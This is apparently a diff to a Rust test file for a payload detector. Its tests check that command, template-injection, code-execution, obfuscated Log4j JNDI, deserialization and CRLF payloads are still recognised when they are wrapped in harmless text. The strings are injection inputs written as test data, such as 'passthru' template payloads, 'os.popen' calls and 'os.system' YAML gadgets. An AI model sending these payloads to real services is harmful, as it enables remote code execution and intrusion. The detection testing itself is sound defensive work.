@@ -35,9 +35,7 @@ const TEXTS: &[&str] = &[
 ];
 
 fn repeated(unit: &str, bytes: usize) -> Vec<u8> {
-    let mut text = unit.repeat(bytes.div_ceil(unit.len())).into_bytes();
-    text.truncate(bytes);
-    text
+    unit.repeat(bytes.div_ceil(unit.len())).into_bytes()
 }
 
 #[track_caller]
@@ -79,7 +77,7 @@ fn commands() {
     survives(
         Class::Command,
         &payloads,
-        &["it's ", "\"", "{{ a }} ", "<b>", "${x} ", "(", "; x", "| y ", "a=1;", "\n"],
+        &["it's ", "\"", "{{ a }} ", "<b> ", "${x} ", "(", "; x", "| y ", "a=1;", "\n"],
     );
 }
 
@@ -93,7 +91,7 @@ fn templates() {
         "#{7*191}",
         "{{['ls']|map('passthru')|join}}",
     ];
-    survives(Class::Template, &payloads, &["it's ", "\"", "`", "{{ a }} ", "<b>", "(", "; x", "\n"]);
+    survives(Class::Template, &payloads, &["it's ", "\"", "`", "{{ a }} ", "<b> ", "(", "; x", "\n"]);
 }
 
 #[test]
@@ -107,7 +105,7 @@ fn code() {
         "getattr(os,'popen')('ls')",
         "(pass.(th).ru)(ls)",
     ];
-    survives(Class::Code, &payloads, &["it's ", "{{ a }} ", "<b>", "; x", "a=1;", "\n"]);
+    survives(Class::Code, &payloads, &["it's ", "{{ a }} ", "<b> ", "; x", "a=1;", "\n"]);
 }
 
 #[test]
@@ -117,14 +115,14 @@ fn lookups_and_objects() {
         "${${::-j}ndi:rmi://a.example/x}",
         "${${lower:J}${lower:N}di:dns://a.example}",
     ];
-    survives(Class::Log4j, &lookups, &["it's ", "\"", "`", "{{ a }} ", "<b>", "(", "}", "\n"]);
+    survives(Class::Log4j, &lookups, &["it's ", "\"", "`", "{{ a }} ", "<b> ", "(", "}", "\n"]);
     let objects = [
         "O:8:\"Monolog1\":1:{s:1:\"a\";i:1;}",
         "!!python/object/apply:os.system [\"ls\"]",
         "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
     ];
-    survives(Class::Deserialization, &objects, &["{{ a }} ", "<b>", "; x", "\n"]);
-    survives(Class::Crlf, &["\r\nSet-Cookie: a=b"], &["it's ", "\"", "<b>", "; x"]);
+    survives(Class::Deserialization, &objects, &["{{ a }} ", "<b> ", "; x", "\n"]);
+    survives(Class::Crlf, &["\r\nSet-Cookie: a=b"], &["it's ", "\"", "<b> ", "; x"]);
 }
 
 /// What a field for texts shows is no attack; the same words as a command at work are.
